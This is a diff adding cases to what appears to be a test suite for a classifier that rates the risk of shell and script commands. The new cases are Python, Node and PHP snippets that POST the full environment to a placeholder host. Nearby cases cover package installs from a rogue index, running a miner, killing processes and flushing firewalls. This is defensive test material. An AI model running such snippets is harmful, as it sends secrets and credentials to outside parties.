@@ -140,6 +140,18 @@ describe('at start', () => {
       'spreads high',
     ],
     ['apt-get update && apt-get install -y curl git', 'installs-packages low'],
+    [
+      `#!/usr/bin/python3\nimport os, requests\nrequests.post("http://${IP}/e", json=dict(os.environ))\n`,
+      'sends-secrets high',
+    ],
+    [
+      `#!/usr/bin/env node\nconst d = JSON.stringify(process.env);\nrequire('http').request({ host: '${IP}', method: 'POST' }).end(d);\n`,
+      'sends-secrets high',
+    ],
+    [
+      `#!/usr/bin/php\n<?php curl_setopt($c, CURLOPT_POST, 1); curl_setopt($c, CURLOPT_URL, 'http://${IP}/e'); curl_setopt($c, CURLOPT_POSTFIELDS, json_encode(getenv())); fopen('x', 'r'); file_get_contents('y');\n`,
+      'sends-secrets high',
+    ],
     [`pip install -q --index-url http://${IP}/simple helper`, 'installs-packages medium'],
     [`pip install --extra-index-url=https://${IP}/simple helper`, 'installs-packages medium'],
     [`npm install -g --registry http://npm.example.org/ helper`, 'installs-packages medium'],
@@ -205,6 +217,10 @@ describe('leaves alone, or says little of', () => {
       'pkill -f gunicorn; killall nginx; kill -9 $(pidof java); pkill -x xmrig; exec xmrig -c /etc/x.json',
     ],
     ['processes by name', "ps aux | grep myapp | grep -v grep | awk '{print $2}' | xargs kill"],
+    [
+      'an environment for a child, and a message to a chat',
+      '#!/usr/bin/python3\nimport os, subprocess, requests\nsubprocess.run(["make"], env=dict(os.environ))\nopen("x")\nrequests.post("https://discord.com/api/webhooks/1/x", json={"content": os.environ["NAME"]})\n',
+    ],
     ['what it watches', 'pgrep xmrig && echo "miner found" && exit 1'],
     ['a network image', 'iptables -t nat -F; iptables -F FORWARD; iptables -A FORWARD -j ACCEPT'],
     ['a firewall of its own', 'iptables -F\niptables -P INPUT DROP\niptables -A INPUT -i lo -j ACCEPT'],
